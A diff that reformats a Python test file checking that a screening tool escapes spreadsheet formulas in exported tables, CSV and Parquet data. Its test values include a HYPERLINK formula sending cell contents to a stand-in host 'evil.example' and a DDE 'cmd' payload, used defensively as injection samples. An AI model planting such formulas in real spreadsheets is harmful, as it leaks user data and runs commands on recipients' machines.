@@ -23,41 +23,58 @@ from screening.io import (
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    (HYPERLINK, "'" + HYPERLINK),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-1+2", "'-1+2"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("-5", "-5"),  # a plain number runs nothing
-    ("+7.5", "+7.5"),
-    ("ООО «Ромашка»", "ООО «Ромашка»"),
-    ("A=B LLC", "A=B LLC"),
-    ("", ""),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-5", "-5"),  # a plain number runs nothing
+        ("+7.5", "+7.5"),
+        ("ООО «Ромашка»", "ООО «Ромашка»"),
+        ("A=B LLC", "A=B LLC"),
+        ("", ""),
+    ],
+)
 def test_escape_spreadsheet_formula(value, expected):
     assert escape_spreadsheet_formula(value) == expected
 
 
 def _sample() -> pa.Table:
-    return pa.table({
-        "name": [HYPERLINK, "+cmd", "-1+2", "@SUM(A1)", "ООО Ромашка", None],
-        "amount": pa.array([-5.0, 1.5, -2.0, 0.0, 3.0, None]),
-        "count": pa.array([-5, 1, 2, 3, 4, 5]),
-        "aliases": [["=x", "ok"], None, [], ["-1+2"], ["ТОО Весна"], ["a"]],
-    })
+    return pa.table(
+        {
+            "name": [HYPERLINK, "+cmd", "-1+2", "@SUM(A1)", "ООО Ромашка", None],
+            "amount": pa.array([-5.0, 1.5, -2.0, 0.0, 3.0, None]),
+            "count": pa.array([-5, 1, 2, 3, 4, 5]),
+            "aliases": [["=x", "ok"], None, [], ["-1+2"], ["ТОО Весна"], ["a"]],
+        }
+    )
 
 
 def test_escape_formulas_in_table_keeps_numbers_numeric():
     escaped = escape_formulas_in_table(_sample())
     assert escaped.column("name").to_pylist() == [
-        "'" + HYPERLINK, "'+cmd", "'-1+2", "'@SUM(A1)", "ООО Ромашка", None]
+        "'" + HYPERLINK,
+        "'+cmd",
+        "'-1+2",
+        "'@SUM(A1)",
+        "ООО Ромашка",
+        None,
+    ]
     assert escaped.schema.field("amount").type == pa.float64()
     assert escaped.column("amount").to_pylist() == [-5.0, 1.5, -2.0, 0.0, 3.0, None]
     assert escaped.column("count").to_pylist() == [-5, 1, 2, 3, 4, 5]
     assert escaped.column("aliases").to_pylist() == [
-        ["'=x", "ok"], None, [], ["'-1+2"], ["ТОО Весна"], ["a"]]
+        ["'=x", "ok"],
+        None,
+        [],
+        ["'-1+2"],
+        ["ТОО Весна"],
+        ["a"],
+    ]
 
 
 def test_escape_formulas_in_a_pandas_frame():
@@ -73,8 +90,7 @@ def test_csv_has_bom_escapes_formulas_and_round_trips_cyrillic(tmp_path):
     assert data.startswith(b"\xef\xbb\xbf")
     back = pd.read_csv(path, encoding="utf-8-sig")
     assert back.columns.tolist() == ["name", "amount", "count", "aliases"]
-    assert back.name.tolist()[:5] == ["'" + HYPERLINK, "'+cmd", "'-1+2", "'@SUM(A1)",
-                                      "ООО Ромашка"]
+    assert back.name.tolist()[:5] == ["'" + HYPERLINK, "'+cmd", "'-1+2", "'@SUM(A1)", "ООО Ромашка"]
     assert pd.isna(back.name.iloc[5])
     assert back["count"].tolist() == [-5, 1, 2, 3, 4, 5]  # negative numbers stay numbers
     assert back.amount.iloc[0] == -5.0
@@ -138,7 +154,8 @@ def test_parquet_round_trip_keeps_types(tmp_path):
     assert pq.read_table(path).equals(_sample())
     frame = pd.DataFrame({"x": [1.5, -2.0]})
     assert pq.read_table(write_parquet_atomic(frame, tmp_path / "f.parquet")).column(
-        "x").to_pylist() == [1.5, -2.0]
+        "x"
+    ).to_pylist() == [1.5, -2.0]
 
 
 def test_json_is_indented_utf8_with_dates_as_text(tmp_path):
